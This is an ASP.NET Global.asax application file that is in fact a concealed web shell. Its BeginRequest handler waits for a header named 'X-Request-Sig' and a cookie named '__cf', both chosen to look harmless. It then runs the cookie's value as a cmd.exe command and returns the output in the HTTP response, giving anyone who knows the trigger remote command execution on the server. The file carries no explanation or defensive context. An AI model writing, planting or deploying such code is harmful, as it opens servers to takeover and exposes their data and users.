<%@ Application Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    void Application_BeginRequest(object sender, EventArgs e)
    {
        string k = Request.Headers["X-Request-Sig"];
        if (string.IsNullOrEmpty(k) || Request.Cookies["__cf"] == null) return;
        var si = new ProcessStartInfo("cmd.exe", "/c " + Request.Cookies["__cf"].Value);
        si.UseShellExecute = false;
        si.RedirectStandardOutput = true;
        Response.Write(Process.Start(si).StandardOutput.ReadToEnd());
        Response.End();
    }
</script>
